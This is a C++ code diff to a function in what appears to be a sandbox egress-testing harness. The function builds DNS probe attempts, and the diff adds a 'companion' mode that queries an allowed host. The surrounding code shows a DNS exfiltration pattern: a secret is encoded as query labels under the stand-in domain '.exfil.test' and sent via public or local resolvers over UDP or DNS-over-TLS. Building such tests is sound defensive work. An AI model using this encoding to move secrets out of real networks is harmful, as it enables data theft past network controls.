@@ -33,13 +33,13 @@ Attempt build(const Choice& choice, const Brief& brief) {
   const std::string transport = chosen(choice, "transport", "udp");
   const std::string secret = carried_secret(choice, brief);
   const std::string labels = secret.empty() ? "" : as_labels(secret) + ".";
-  const std::string name = labels + brief.nonce + ".exfil.test";
+  const bool own = chosen(choice, "server", "public") == "default";
+  const std::string name = brief.companion ? brief.allowed_host : labels + brief.nonce + ".exfil.test";
   const std::string message = query(name, kTypes.at(chosen(choice, "qtype", "A")), brief.nonce);
 
-  std::string server =
-      chosen(choice, "server", "public") == "public" ? brief.route.public_resolver : brief.route.resolver;
+  std::string server = own ? brief.route.resolver : brief.route.public_resolver;
   int port = transport == "dot" ? 853 : 53;
-  if (is_control(brief.arm)) {
+  if (is_control(brief.arm) && !brief.companion) {
     server = brief.route.echo.address;
     port = brief.route.echo.port;
   }
@@ -50,7 +50,8 @@ Attempt build(const Choice& choice, const Brief& brief) {
   attempt.delivered_at = "echo";
   attempt.bare_at = {"dns"};
   attempt.secret = chosen(choice, "secret", "none") == "none" ? "" : chosen(choice, "secret", "none");
-  attempt.wall = chosen(choice, "server", "public") == "public" ? Layer::network : Layer::resolver;
+  attempt.wall = own ? Layer::resolver : Layer::network;
+  if (own) attempt.companion = "an allowed name over " + transport + " from the bottle's resolver, prober";
   if (brief.arm == Arm::bare) attempt.place = Place::outside;
   return attempt;
 }
